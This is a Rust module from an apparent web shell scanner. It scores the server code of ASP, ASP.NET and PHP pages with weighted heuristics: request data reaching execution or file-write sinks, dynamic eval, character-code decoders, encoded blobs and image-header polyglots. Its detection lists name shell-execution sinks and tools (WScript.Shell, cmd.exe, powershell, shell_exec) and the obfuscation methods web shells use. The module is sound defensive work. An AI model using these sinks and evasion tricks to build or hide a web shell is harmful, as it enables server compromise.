//! Content heuristics: traits of a page's server code that web shells share and
//! ordinary pages rarely do, each a weighted [`Signal`]. No one signal is a finding;
//! a page whose signals add up to [`FINDING_THRESHOLD`] is one, with every signal that
//! fired as a reason. The weights were set by measuring each signal's recall and false
//! alarms on the development and held-out sets (`bench/devset.py --signals`; the
//! figures are in `docs/detection.md`). Which pages run nothing a request steers is
//! [`super::inert`]'s; it reads the code with the helpers here.
//!
//! Everything here reads only the server code of the page (`<% %>` blocks, `<script
//! runat="server">`, a handler's whole body, PHP's `<?php ?>`), lower-cased, so
//! client-side script in a page's markup cannot raise its score.

use super::files::FileSubject;
use memchr::memmem;
use std::collections::{HashMap, HashSet};

/// A trait of the page's code and what it weighs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Signal {
    pub id: &'static str,
    pub weight: u8,
    /// What it means, for the finding's reasons.
    pub because: &'static str,
}

pub const REQUEST_TO_SINK: Signal = Signal {
    id: "request-to-sink",
    weight: 50,
    because: "request data within a statement of an execution sink (eval, Execute, Process.Start, Assembly.Load, CreateObject of a variable)",
};
pub const DYNAMIC_EXECUTE: Signal = Signal {
    id: "dynamic-execute",
    weight: 35,
    because: "script text computed at run time and run (Execute, ExecuteGlobal, eval of something other than a literal or a constant that spells plain code)",
};
pub const TINY_PAGE_WITH_SINK: Signal = Signal {
    id: "tiny-page-with-sink",
    weight: 25,
    because: "a page of under 1 KB of code whose code holds an execution sink or writes request data to a file",
};
pub const HIDDEN_KEYWORD: Signal = Signal {
    id: "hidden-keyword",
    weight: 30,
    because: "a dangerous keyword (eval, execute, WScript.Shell, cmd.exe, Assembly ...) spelled only by joining string pieces",
};
pub const CHAR_CODES: Signal = Signal {
    id: "char-codes",
    weight: 20,
    because: "text built from character codes (a Chr()/ChrW()/fromCharCode/(char) chain)",
};
pub const CHAR_CODE_DECODER: Signal = Signal {
    id: "char-code-decoder",
    weight: 25,
    because: "characters computed from codes by arithmetic (Chr(x - 55), fromCharCode(c ^ k)): a decoder for hidden text",
};
pub const ENCODED_BLOB: Signal = Signal {
    id: "encoded-blob",
    weight: 25,
    because: "a long base64 or hex blob in the code together with a decode call",
};
pub const UNICODE_ESCAPES: Signal = Signal {
    id: "unicode-escapes",
    weight: 15,
    because: "identifiers or strings written as \\uXXXX escapes",
};
pub const LITERAL_JOINS: Signal = Signal {
    id: "literal-joins",
    weight: 10,
    because:
        "many string literals joined to each other (\"ab\" & \"cd\"), a way to cut keywords apart",
};
pub const IMAGE_HEADER: Signal = Signal {
    id: "image-header",
    weight: 30,
    because: "server code behind an image file's header (GIF89a, PNG, JPEG), made to pass an upload filter",
};
pub const REQUEST_TO_FILE_WRITE: Signal = Signal {
    id: "request-to-file-write",
    weight: 30,
    because: "request data within a statement of a file write (CreateTextFile, SaveToFile, WriteAllText, file_put_contents)",
};
pub const REQUEST_NAMES_WRITTEN_FILE: Signal = Signal {
    id: "request-names-written-file",
    weight: 50,
    because: "the request names a file the page writes (CreateTextFile(Request(\"path\")), SaveToFile p where p = Request(\"f\")): whoever asks writes where they like, as upload-and-save droppers do",
};
pub const SCRIPT_ENCODED: Signal = Signal {
    id: "script-encoded",
    weight: 15,
    because: "server code hidden with the Script Encoder (VBScript.Encode / JScript.Encode)",
};

/// Every signal, in the order reports list them.
pub const SIGNALS: [Signal; 13] = [
    REQUEST_TO_SINK,
    REQUEST_TO_FILE_WRITE,
    REQUEST_NAMES_WRITTEN_FILE,
    DYNAMIC_EXECUTE,
    TINY_PAGE_WITH_SINK,
    HIDDEN_KEYWORD,
    CHAR_CODES,
    CHAR_CODE_DECODER,
    ENCODED_BLOB,
    UNICODE_ESCAPES,
    LITERAL_JOINS,
    IMAGE_HEADER,
    SCRIPT_ENCODED,
];

/// The sum of weights from which the signals are a finding (medium).
pub const FINDING_THRESHOLD: u32 = 50;
/// Heuristics alone never make a finding critical: that takes a rule or context.
pub const MAX_SCORE: u32 = 85;

/// How far apart (bytes of code) request data and a sink may be to count as one statement.
const STATEMENT_REACH: usize = 200;
const TINY_CODE: usize = 1024;
const MIN_CHAR_CODES: usize = 12;
const MIN_BLOB: usize = 256;
const MIN_UNICODE_ESCAPES: usize = 12;
const MIN_LITERAL_JOINS: usize = 12;

/// Where request data enters server code, in the languages IIS hosts.
pub(super) const REQUEST_SOURCES: [&str; 22] = [
    "request.form",
    "request.querystring",
    "request.item",
    "request[",
    "request(",
    "request.params",
    "request.inputstream",
    "request.binaryread",
    "request.files",
    "request.cookies",
    "request.headers",
    "request.getparameter",
    "request.getinputstream",
    "request.getreader",
    "request.getheader",
    "$_post",
    "$_get",
    "$_request",
    "$_cookie",
    "php://input",
    "request.totalbytes",
    "$_files",
];

/// Calls that run what they are given whatever their argument: a process, a loaded
/// assembly, a compiler, a reflection call, a shell object.
pub(super) const SINKS_ANY_ARGUMENT: [&str; 16] = [
    "process.start",
    "processstartinfo",
    "assembly.load",
    "compileassemblyfromsource",
    "activator.createinstance",
    "invokemember",
    "wscript.shell",
    "shell.application",
    "getruntime().exec",
    "processbuilder",
    "callbyname",
    "shell_exec",
    "passthru",
    "proc_open",
    "popen(",
    "jscriptevaluate",
];

/// Functions that are a sink only when they stand alone (not `conn.Execute`) and take
/// something other than a string literal (`CreateObject("ADODB.Connection")` is not).
const SINKS_VARIABLE_ARGUMENT: [&str; 7] = [
    "eval",
    "execute",
    "executeglobal",
    "createobject",
    "assert",
    "system",
    "exec",
];

/// Calls that write a file whose name or content may come from the request.
const FILE_WRITES: [&str; 8] = [
    "createtextfile",
    "opentextfile",
    "savetofile",
    "writealltext",
    "writeallbytes",
    "file_put_contents",
    "move_uploaded_file",
    "fileoutputstream",
];

/// Image magic numbers a polyglot page starts with.
const IMAGE_MAGICS: [&[u8]; 4] = [b"GIF89a", b"GIF87a", b"\x89PNG", b"\xFF\xD8\xFF"];

/// The sinks that run script text itself: given a computed string, they run code
/// nobody can read in the page.
const DYNAMIC_EXECUTORS: [&str; 4] = ["eval", "execute", "executeglobal", "assert"];

/// Keywords a shell hides by cutting them into string pieces.
/// (`"ADODB." & "Stream"` and `"Scripting.File" & "SystemObject"` are left out:
/// ordinary ASP applications cut those to get past antivirus.)
const HIDDEN_KEYWORDS: [&str; 15] = [
    "scriptcontrol",
    "eval",
    "execute",
    "wscript",
    "cmd.exe",
    "process",
    "diagnostics",
    "assembly",
    "createobject",
    "shell.application",
    "frombase64",
    "powershell",
    "reflection",
    "base64_decode",
    "request",
];

/// Decode calls that turn a blob back into code or bytes.
const DECODERS: [&str; 10] = [
    "frombase64",
    "base64_decode",
    "base64decode",
    "decodebase64",
    "atob(",
    "hex2bin",
    "fromhex",
    "gzinflate",
    "gzdecode",
    "convert.toint32",
];

/// The signals that fired on one page.
#[derive(Debug, Default)]
pub struct Assessment {
    pub fired: Vec<Signal>,
}

impl Assessment {
    pub fn total(&self) -> u32 {
        self.fired.iter().map(|s| u32::from(s.weight)).sum()
    }

    /// The score a finding gets, when the signals are one.
    pub fn score(&self) -> Option<u8> {
        let total = self.total();
        (total >= FINDING_THRESHOLD).then(|| total.min(MAX_SCORE) as u8)
    }
}

/// The page's server code, lower-cased, and its size without whitespace.
pub(super) struct Code {
    pub(super) text: Vec<u8>,
    pub(super) code_bytes: usize,
    /// Where `text` holds VBScript string literals, quotes included, in order: a
    /// keyword there is text the code prints or passes on, not a statement
    /// ([`VbscriptBlocks`]). Empty for other languages, whose literals are not read.
    pub(super) vbscript_literals: Vec<std::ops::Range<usize>>,
}

fn non_space(bytes: &[u8]) -> usize {
    bytes.iter().filter(|b| !b.is_ascii_whitespace()).count()
}

/// Extensions whose whole body is code once past the directive line.
const WHOLE_FILE_CODE: [&str; 4] = ["ashx", "asmx", "svc", "cs"];

pub(super) fn server_code(extension: &str, page: &[u8]) -> Code {
    let lower = page.to_ascii_lowercase();
    let mut vbscript_literals = Vec::new();
    let text = if WHOLE_FILE_CODE.contains(&extension) {
        lower
    } else if extension == "php" {
        regions(&lower, &[(b"<?", b"?>")])
    } else {
        let mut code = regions(&lower, &[(b"<%", b"%>")]);
        if extension == "asp" && blocks_are_vbscript(&lower) {
            let blocks = VbscriptBlocks::read(&code);
            code = blocks.code;
            vbscript_literals = blocks.literals;
        }
        code.extend(script_runat_server(&lower));
        code
    };
    let code_bytes = non_space(&text);
    Code {
        text,
        code_bytes,
        vbscript_literals,
    }
}

/// True when a classic ASP page's `<% %>` blocks are VBScript: its `@` directive names
/// no language, or names VBScript (`VBScript.Encode` too). JScript and PerlScript
/// pages are left as they are.
fn blocks_are_vbscript(lower_page: &[u8]) -> bool {
    let Some(open) = memmem::find(lower_page, b"<%@") else {
        return true;
    };
    let directive = &lower_page[open..];
    let directive = &directive[..memmem::find(directive, b"%>").unwrap_or(directive.len())];
    memmem::find(directive, b"language").is_none_or(|at| {
        let value = directive[at + b"language".len()..]
            .iter()
            .skip_while(|b| b.is_ascii_whitespace() || matches!(b, b'=' | b'"' | b'\''));
        value.take(8).copied().eq(b"vbscript".iter().copied())
    })
}

/// VBScript server code read as the VBScript engine reads it: comments (`'` outside
/// a literal, `Rem` opening a statement) run nothing, so they are dropped, and where
/// the string literals lie is recorded. VBScript has one quote character, doubles it
/// to escape it and ends every literal at the end of its line, so one pass over each
/// line is exact. Pages' comments say `' execute the query`, and a keyword there or in
/// a literal (`conn.db(sql, "execute")`) is no statement.
struct VbscriptBlocks {
    code: Vec<u8>,
    literals: Vec<std::ops::Range<usize>>,
}

impl VbscriptBlocks {
    fn read(blocks: &[u8]) -> Self {
        let mut code = Vec::with_capacity(blocks.len());
        let mut literals = Vec::new();
        for line in blocks.split_inclusive(|b| *b == b'\n') {
            let mut literal_start = None;
            let mut statement_start = true;
            for (i, &byte) in line.iter().enumerate() {
                if literal_start.is_none() {
                    let rem = statement_start
                        && line[i..].starts_with(b"rem")
                        && line.get(i + 3).is_none_or(|b| b.is_ascii_whitespace());
                    if byte == b'\'' || rem {
                        break;
                    }
                }
                match byte {
                    b'"' => match literal_start.take() {
                        Some(start) => literals.push(start..code.len() + 1),
                        None => literal_start = Some(code.len()),
                    },
                    b':' if literal_start.is_none() => statement_start = true,
                    b if b.is_ascii_whitespace() => {}
                    _ if literal_start.is_none() => statement_start = false,
                    _ => {}
                }
                code.push(byte);
            }
            // An unclosed literal ends with its line.
            if let Some(start) = literal_start {
                literals.push(start..code.len());
            }
            if line.ends_with(b"\n") && !code.ends_with(b"\n") {
                code.push(b'\n');
            }
        }
        Self { code, literals }
    }
}

/// True when `at` lies within one of `literals` (sorted, disjoint).
fn in_literal(literals: &[std::ops::Range<usize>], at: usize) -> bool {
    let after = literals.partition_point(|range| range.end <= at);
    literals.get(after).is_some_and(|range| range.start <= at)
}

/// The bytes between each `open` and the next `close` (to the end when unclosed),
/// joined with a newline; `<%--` comments and `<%@` directives are left out.
fn regions(page: &[u8], pairs: &[(&[u8], &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (open, close) in pairs {
        let mut at = 0;
        while let Some(start) = memmem::find(&page[at..], open).map(|s| at + s + open.len()) {
            let end = memmem::find(&page[start..], close).map_or(page.len(), |e| start + e);
            let block = &page[start..end];
            if !block.starts_with(b"--") && !block.starts_with(b"@") {
                out.extend_from_slice(block);
                out.push(b'\n');
            }
            at = (end + close.len()).min(page.len());
        }
    }
    out
}

/// The bodies of `<script ... runat="server">` blocks.
pub(super) fn script_runat_server(page: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut at = 0;
    while let Some(open) = memmem::find(&page[at..], b"<script").map(|s| at + s) {
        let Some(tag_end) = memchr::memchr(b'>', &page[open..]).map(|e| open + e + 1) else {
            break;
        };
        let end = memmem::find(&page[tag_end..], b"</script").map_or(page.len(), |e| tag_end + e);
        if memmem::find(&page[open..tag_end], b"runat").is_some() {
            out.extend_from_slice(&page[tag_end..end]);
            out.push(b'\n');
        }
        at = end;
    }
    out
}

pub(super) fn positions(code: &[u8], needles: &[&str]) -> Vec<usize> {
    let mut out: Vec<usize> = needles
        .iter()
        .flat_map(|n| memmem::find_iter(code, n.as_bytes()))
        .collect();
    out.sort_unstable();
    out
}

pub(super) fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'.' || b == b'$'
}

/// Where a variable-argument sink stands alone, outside a VBScript literal, and is
/// given something other than a string literal, with the sink's name.
fn variable_sinks(code: &Code, names: &Assignments) -> Vec<(usize, &'static str)> {
    let (literals, code) = (&code.vbscript_literals, &code.text[..]);
    let mut out = Vec::new();
    for name in SINKS_VARIABLE_ARGUMENT {
        for at in memmem::find_iter(code, name.as_bytes()) {
            if in_literal(literals, at) {
                continue;
            }
            // `Server.CreateObject` is the one dotted form that is the function itself.
            let standalone = at == 0
                || !is_word(code[at - 1])
                || (name == "createobject" && code[..at].ends_with(b"server."));
            let after = within_reach(&code[at + name.len()..]);
            if !standalone || after.first().is_some_and(|b| is_word(*b)) {
                continue;
            }
            // PHP's `system(`, `exec(`, `assert(` are calls only with their parenthesis
            // (`select * from system` is SQL).
            let needs_parenthesis = matches!(name, "system" | "exec" | "assert");
            if needs_parenthesis && !after.trim_ascii_start().starts_with(b"(") {
                continue;
            }
            // An object named by joined pieces (`CreateObject("ADODB." & "Stream")`) is
            // still one fixed object, and so is one named by a constant the request
            // never reaches: what the request cannot name, it cannot steer. Code run by
            // Eval or Execute from pieces or a variable is another matter.
            if is_literal_argument(after) || reads_as_prose(after) {
                continue;
            }
            let line = &after[..memchr::memchr(b'\n', after).unwrap_or(after.len())];
            let fixed = if name == "createobject" {
                is_literal_argument(&joined_literals(line).0) || names_unsteered_object(names, line)
            } else {
                DYNAMIC_EXECUTORS.contains(&name) && runs_fixed_plain_code(line)
            };
            if !fixed {
                out.push((at, name));
            }
        }
    }
    out.sort_unstable();
    out
}

/// Names that reach objects besides `CreateObject` (a hidden keyword): a moniker
/// (`GetObject("script:http://...")`), JScript's `ActiveXObject`, and the objects that
/// reach a shell, the network or the file system, by any name.
const OBJECT_REACH: [&str; 6] = [
    "getobject",
    "activexobject",
    "shell",
    "xmlhttp",
    "scripting.",
    "adodb.",
];

/// What code run from a constant may not spell for the constant to count as plain
/// code: the request, a sink, a keyword shells hide, a file write, an object.
const NOT_PLAIN_CODE: [&[&str]; 4] = [
    &HIDDEN_KEYWORDS,
    &SINKS_ANY_ARGUMENT,
    &FILE_WRITES,
    &OBJECT_REACH,
];

/// True when what follows an `Eval` or `Execute` on its line (`line`) is one constant
/// once character codes are spelled and pieces joined (`Eval(Chr(115) & Chr(101) ...)`),
/// and the code it spells names none of [`NOT_PLAIN_CODE`]: the code run is fixed and
/// reads as written, as a vendor's licence check spelled in codes so that users do not
/// edit it out (`Session("a") = Session("b")`). A constant that spells the request or a
/// sink (`Execute(Chr(101) & ...)` for `eval request("a")`) stays a sink, and so does
/// anything on the line that is not one constant.
fn runs_fixed_plain_code(line: &[u8]) -> bool {
    let (spelled, _) = joined_literals(&spell_char_codes(line));
    // One VBScript literal that closes on the line: not an argument on the next line
    // (`eval` then `(code)`), nor one cut at the reach.
    let argument = spelled.trim_ascii_start();
    let argument = argument
        .strip_prefix(b"(")
        .unwrap_or(argument)
        .trim_ascii_start();
    let closes = argument
        .strip_prefix(b"\"")
        .is_some_and(|literal| literal.iter().filter(|b| **b == b'"').count() % 2 == 1);
    closes
        && is_literal_argument(&spelled)
        && NOT_PLAIN_CODE
            .iter()
            .all(|words| count_all(&spelled, words) == 0)
}

/// True when a `CreateObject` argument (`line`, what follows the name) is one name,
/// a constant or variable (`FR_RS`, `cms.FsoName`), that no statement of the page
/// assigns from the request and no function or sub of the page takes as a parameter:
/// a constant of an included file (`Const FR_RS = "ADODB.Recordset"`) names one
/// object the request cannot change. A name the page sets from the request, a
/// parameter (its callers may pass the request) or anything else keeps the sink.
fn names_unsteered_object(assignments: &Assignments, line: &[u8]) -> bool {
    let argument = line.trim_ascii_start();
    let argument = argument
        .strip_prefix(b"(")
        .unwrap_or(argument)
        .trim_ascii_start();
    let length = argument.iter().take_while(|b| is_word(**b)).count();
    let name = &argument[..length];
    let closes = argument[length..].trim_ascii_start().starts_with(b")");
    !name.is_empty()
        && closes
        && !name.starts_with(b"request")
        && !assignments.from_request.contains(name)
        && !assignments.parameters.contains(name)
}

/// How far past a call's name its arguments are read: a call's arguments fit in it,
/// and a page of one endless line costs no more per call.
const ARGUMENT_REACH: usize = 1024;

pub(super) fn within_reach(text: &[u8]) -> &[u8] {
    &text[..text.len().min(ARGUMENT_REACH)]
}

/// What the statements of a page's (lower-case) server code say of its names, read
/// once so that each call looks a name up instead of reading the page again: the
/// names a statement sets from the request, whether each name's every assignment
/// names a static file ([`static_name`]), and the names routines take as parameters.
pub(super) struct Assignments<'a> {
    /// Assigned the request itself, past the calls around it (`q = Trim(Request("q"))`,
    /// also after a one-line `If ... Then`).
    pub(super) copies: HashSet<&'a [u8]>,
    /// Set by a statement that mentions the request (`x = "a" & Request("b")`,
    /// `For Each x In Request.Form`).
    pub(super) from_request: HashSet<&'a [u8]>,
    /// For each assigned name: `Some(markup)` when every assignment names a static
    /// file, `None` when one does not.
    pub(super) static_names: HashMap<&'a [u8], Option<bool>>,
    pub(super) parameters: HashSet<&'a [u8]>,
}

impl<'a> Assignments<'a> {
    pub(super) fn of(code: &'a [u8]) -> Assignments<'a> {
        let mut out = Assignments {
            copies: HashSet::new(),
            from_request: HashSet::new(),
            static_names: HashMap::new(),
            parameters: HashSet::new(),
        };
        for statement in statements(code) {
            let mut rest = statement.trim_ascii();
            for prefix in [&b"public "[..], b"private "] {
                rest = rest.strip_prefix(prefix).unwrap_or(rest).trim_ascii_start();
            }
            if let Some(header) = [&b"function "[..], b"sub "]
                .iter()
                .find_map(|keyword| rest.strip_prefix(*keyword))
            {
                let Some(open) = memchr::memchr(b'(', header) else {
                    continue;
                };
                let close =
                    memchr::memchr(b')', &header[open..]).map_or(header.len(), |c| open + c);
                for parameter in header[open + 1..close].split(|b| *b == b',') {
                    let parameter = parameter.trim_ascii();
                    let parameter = parameter.strip_prefix(b"byval ").unwrap_or(parameter);
                    let parameter = parameter.strip_prefix(b"byref ").unwrap_or(parameter);
                    out.parameters.insert(parameter.trim_ascii());
                }
                continue;
            }
            // `If x Then y = Request("a")`: the assignment after the condition.
            if rest.starts_with(b"if ") {
                if let Some(then) = memmem::find(rest, b" then ") {
                    rest = rest[then + b" then ".len()..].trim_ascii_start();
                }
            }
            for prefix in [&b"set "[..], b"const "] {
                rest = rest.strip_prefix(prefix).unwrap_or(rest).trim_ascii_start();
            }
            let (name, value, assigned) = if let Some(each) = rest.strip_prefix(b"for each ") {
                let length = each.iter().take_while(|b| is_word(**b)).count();
                (&each[..length], &each[length..], false)
            } else {
                let length = rest.iter().take_while(|b| is_word(**b)).count();
                let after = rest[length..].trim_ascii_start();
                match after.strip_prefix(b"=") {
                    Some(value) if !value.starts_with(b"=") => {
                        (&rest[..length], value.trim_ascii_start(), true)
                    }
                    _ => continue,
                }
            };
            if name.is_empty() {
                continue;
            }
            if assigned && is_request_data(unwrapped(within_reach(value))) {
                out.copies.insert(name);
            }
            if memmem::find(value, b"request").is_some() {
                out.from_request.insert(name);
            }
            let named = static_name(value);
            out.static_names
                .entry(name)
                .and_modify(|all| *all = all.zip(named).map(|(a, b)| a || b))
                .or_insert(named);
        }
        out
    }
}

/// The statements of VBScript code: its lines, split at `:` outside string literals,
/// a line ending in the continuation `_` joined to the next.
fn statements(code: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut start = 0;
    let mut at = 0;
    let mut in_literal = false;
    std::iter::from_fn(move || {
        while at < code.len() {
            let b = code[at];
            at += 1;
            match b {
                b'"' => in_literal = !in_literal,
                b'\n' => {
                    in_literal = false;
                    let line = code[start..at - 1].trim_ascii_end();
                    if line.ends_with(b"_") {
                        continue;
                    }
                    let statement = &code[start..at - 1];
                    start = at;
                    return Some(statement);
                }
                b':' if !in_literal => {
                    let statement = &code[start..at - 1];
                    start = at;
                    return Some(statement);
                }
                _ => {}
            }
        }
        (start < code.len()).then(|| {
            let statement = &code[start..];
            start = code.len();
            statement
        })
    })
}

/// True when what follows a call's name is one string literal (VBScript's doubled
/// quotes included) and the call ends there: `CreateObject("ADODB.Stream")`, not
/// `Eval("ev" & "al")` nor `Execute(x)`; an empty argument counts as literal too.
fn is_literal_argument(after: &[u8]) -> bool {
    let mut rest = after.trim_ascii_start();
    if let Some(inner) = rest.strip_prefix(b"(") {
        rest = inner.trim_ascii_start();
    }
    let Some(&quote) = rest.first() else {
        return true;
    };
    if quote == b')' {
        return true;
    }
    if quote != b'"' && quote != b'\'' {
        return false;
    }
    let mut i = 1;
    loop {
        match rest.get(i) {
            None => return true,
            Some(&c) if c == quote && rest.get(i + 1) == Some(&quote) => i += 2,
            Some(&c) if c == quote => break,
            Some(_) => i += 1,
        }
    }
    let tail = rest[i + 1..].trim_ascii_start();
    tail.first()
        .is_none_or(|b| matches!(b, b')' | b'\n' | b'\r' | b':' | b';' | b'%' | b','))
}

/// True for `execute the update`: an argument without parentheses that is several
/// bare words to the end of the statement, which is a comment's prose, not code.
fn reads_as_prose(after: &[u8]) -> bool {
    if after.first() != Some(&b' ') {
        return false;
    }
    let statement = after
        .split(|b| matches!(b, b'\n' | b'\r' | b':' | b';'))
        .next()
        .unwrap_or_default();
    let statement = statement.trim_ascii();
    // `eval str End Function` on one line is code: VBScript keywords follow the argument.
    let keyword = statement.split(|b| *b == b' ').skip(1).any(|w| {
        matches!(
            w,
            b"end" | b"then" | b"else" | b"function" | b"sub" | b"next"
        )
    });
    !keyword
        && !statement
            .iter()
            .any(|b| matches!(b, b'(' | b'&' | b'+' | b'"' | b'.' | b'['))
        && statement.contains(&b' ')
}

/// True when some position of `a` is within `reach` bytes of some position of `b`.
fn near(a: &[usize], b: &[usize], reach: usize) -> bool {
    let (mut i, mut j) = (0, 0);
    while i < a.len() && j < b.len() {
        if a[i].abs_diff(b[j]) <= reach {
            return true;
        }
        if a[i] < b[j] {
            i += 1;
        } else {
            j += 1;
        }
    }
    false
}

/// The code with each `chr(115)` / `chrw(115)` of a printable character or a space written as
/// the string literal `"s"` (a quote as `""""`), so `"mS" & chr(115) & "cR"` joins into one literal.
pub(super) fn spell_char_codes(code: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(code.len());
    let mut i = 0;
    while i < code.len() {
        let rest = &code[i..];
        let open = [&b"chr("[..], b"chrw("]
            .into_iter()
            .find(|p| rest.starts_with(p))
            .map(<[u8]>::len);
        if let Some(open) = open {
            let digits = rest[open..]
                .iter()
                .take_while(|b| b.is_ascii_digit())
                .count();
            let value = std::str::from_utf8(&rest[open..open + digits])
                .ok()
                .and_then(|d| d.parse::<u8>().ok());
            if let Some(c) = value.filter(|c| c.is_ascii_graphic() || *c == b' ') {
                if rest.get(open + digits) == Some(&b')') {
                    // A quote is written as VBScript writes it in a literal, doubled.
                    if c == b'"' {
                        out.extend_from_slice(b"\"\"\"\"");
                    } else {
                        out.extend_from_slice(&[b'"', c.to_ascii_lowercase(), b'"']);
                    }
                    i += open + digits + 1;
                    continue;
                }
            }
        }
        out.push(code[i]);
        i += 1;
    }
    out
}

/// The code with every joint between two string literals (`" & "`, `"+"`, `' + '`)
/// taken out, and how many joints there were.
pub(super) fn joined_literals(code: &[u8]) -> (Vec<u8>, usize) {
    let mut out = Vec::with_capacity(code.len());
    let mut joints = 0;
    let mut i = 0;
    while i < code.len() {
        let quote = code[i];
        if quote == b'"' || quote == b'\'' {
            let mut j = i + 1;
            while j < code.len() && matches!(code[j], b' ' | b'\t') {
                j += 1;
            }
            if j < code.len() && matches!(code[j], b'&' | b'+' | b'.') {
                let mut k = j + 1;
                while k < code.len() && matches!(code[k], b' ' | b'\t' | b'_' | b'\r' | b'\n') {
                    k += 1;
                }
                if k < code.len() && code[k] == quote {
                    joints += 1;
                    i = k + 1;
                    continue;
                }
            }
        }
        out.push(code[i]);
        i += 1;
    }
    (out, joints)
}

fn count_all(code: &[u8], needles: &[&str]) -> usize {
    needles
        .iter()
        .map(|n| memmem::find_iter(code, n.as_bytes()).count())
        .sum()
}

fn char_codes(code: &[u8]) -> usize {
    ["chr(", "chrw(", "chrb(", "fromcharcode(", "(char)", "char("]
        .iter()
        .map(|n| {
            memmem::find_iter(code, n.as_bytes())
                .filter(|at| {
                    code.get(at + n.len())
                        .is_some_and(|b| b.is_ascii_digit() || *b == b'&' || *b == b' ')
                })
                .count()
        })
        .sum()
}

/// True when a character is made from a code by arithmetic: `chr(`, `chrw(` or
/// `fromcharcode(` whose argument holds `-`, `+`, `xor` or `^`, or a character's code
/// (`asc(`, `charCodeAt(`) shifted by one of them.
fn char_code_decoder(code: &[u8]) -> bool {
    let shifted_code = ["asc(", "ascw(", "charcodeat("].iter().any(|n| {
        memmem::find_iter(code, n.as_bytes()).any(|at| {
            // `Asc(Mid(s, i, 1)) - k`: a character's code shifted, a Caesar decoder.
            let rest = &code[at + n.len()..];
            let end = balanced_end(rest, 80);
            let after = rest.get(end + 1..).unwrap_or_default().trim_ascii_start();
            rest.get(end) == Some(&b')')
                && (after
                    .first()
                    .is_some_and(|b| matches!(b, b'-' | b'+' | b'^'))
                    || after.starts_with(b"xor "))
        })
    });
    shifted_code
        || ["chr(", "chrw(", "chrb(", "fromcharcode("].iter().any(|n| {
            memmem::find_iter(code, n.as_bytes()).any(|at| {
                let argument = &code[at + n.len()..];
                let argument = &argument[..balanced_end(argument, 80)];
                // `Chr(13)`, `Chr(-1)` are constants, not arithmetic on a code.
                argument.first().is_some_and(|b| b.is_ascii_alphabetic())
                    && (argument.iter().any(|b| matches!(b, b'-' | b'+' | b'^'))
                        || memmem::find(argument, b" xor ").is_some())
            })
        })
}

/// Where the argument that starts `text` (just inside an opening parenthesis) ends:
/// at its closing parenthesis, a line break, or after `limit` bytes.
fn balanced_end(text: &[u8], limit: usize) -> usize {
    let mut depth = 0usize;
    for (i, b) in text.iter().enumerate().take(limit) {
        match b {
            b'(' => depth += 1,
            b')' if depth == 0 => return i,
            b')' => depth -= 1,
            b'\n' => return i,
            _ => {}
        }
    }
    text.len().min(limit)
}

fn longest_blob(code: &[u8]) -> usize {
    let mut longest = 0;
    let mut run = 0;
    for (i, b) in code.iter().enumerate() {
        if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=') {
            run += 1;
        } else {
            // A data URI (`base64,iVBOR...`) is an image, not a payload.
            if run > longest && !code[..i - run].ends_with(b"base64,") {
                longest = run;
            }
            run = 0;
        }
    }
    longest.max(run)
}

fn unicode_escapes(code: &[u8]) -> usize {
    memmem::find_iter(code, b"\\u")
        .filter(|at| {
            code.get(at + 2..at + 6)
                .is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit))
        })
        .count()
}

/// Extensions of files a browser runs as markup or script: a page that writes request
/// data into one of them injects into the site's pages (defacement, stored script).
const MARKUP_EXTENSIONS: [&str; 4] = [".html", ".htm", ".js", ".css"];

/// For a call's first argument (what follows its opening parenthesis) that ends in a
/// string literal of a [`STATIC_EXTENSIONS`] name (`Server.MapPath(p & ".html"), 2`):
/// whether that extension is markup ([`MARKUP_EXTENSIONS`]). `None` for any other name.
pub(super) fn static_name(argument: &[u8]) -> Option<bool> {
    let first = first_argument(argument).trim_ascii_end();
    let first = first.strip_suffix(b")").unwrap_or(first).trim_ascii_end();
    let inside = first.strip_suffix(b"\"")?;
    let extension = STATIC_EXTENSIONS
        .iter()
        .find(|ext| inside.ends_with(ext.as_bytes()))?;
    Some(MARKUP_EXTENSIONS.contains(extension))
}

/// A call's first argument, up to its first top-level comma, its closing parenthesis,
/// the line's end or a VBScript comment (`'` outside a literal).
fn first_argument(argument: &[u8]) -> &[u8] {
    let argument = within_reach(argument);
    let mut depth = 0usize;
    let mut in_literal = false;
    for (i, &b) in argument.iter().enumerate() {
        match b {
            b'"' => in_literal = !in_literal,
            _ if in_literal => {}
            b'(' => depth += 1,
            b')' if depth == 0 => return &argument[..i],
            b')' => depth -= 1,
            b',' if depth == 0 => return &argument[..i],
            b'\n' | b'\'' => return &argument[..i],
            _ => {}
        }
    }
    argument
}

/// True when `text` starts with one of the request's `copies` as a whole word.
pub(super) fn starts_with_copy(text: &[u8], copies: &HashSet<&[u8]>) -> bool {
    let length = text
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    length > 0 && copies.contains(&text[..length])
}

/// True when an argument, past the calls it starts with (`Server.MapPath(`, `Trim(`),
/// is the request itself (`Request("p")`, PHP's `$_POST[...]`) or one of its `copies`.
pub(super) fn is_request_or_copy(argument: &[u8], copies: &HashSet<&[u8]>) -> bool {
    let argument = unwrapped(within_reach(argument));
    is_request_data(argument) || starts_with_copy(argument, copies)
}

/// Server variables IIS sets from the page itself, not from what the client sent: the
/// script's own path and URL, the application's folder.
const SERVER_SET_VARIABLES: [&str; 7] = [
    "path_info",
    "script_name",
    "url",
    "path_translated",
    "appl_physical_path",
    "appl_md_path",
    "local_addr",
];

/// True when code starts with data the client sends: `Request(...)`, `Request.Form`,
/// PHP's `$_POST[...]`, a server variable other than [`SERVER_SET_VARIABLES`]
/// (`Request.ServerVariables("PATH_INFO")` is the page's own path, a config page
/// rewriting itself; `HTTP_X_...` is a header the client chose).
fn is_request_data(code: &[u8]) -> bool {
    if let Some(variable) = code.strip_prefix(b"request.servervariables") {
        let name = variable
            .trim_ascii_start()
            .strip_prefix(b"(")
            .unwrap_or(variable)
            .trim_ascii_start()
            .strip_prefix(b"\"")
            .unwrap_or_default();
        return !SERVER_SET_VARIABLES.iter().any(|set| {
            name.strip_prefix(set.as_bytes())
                .is_some_and(|rest| rest.starts_with(b"\""))
        });
    }
    code.starts_with(b"request") || code.starts_with(b"$_")
}

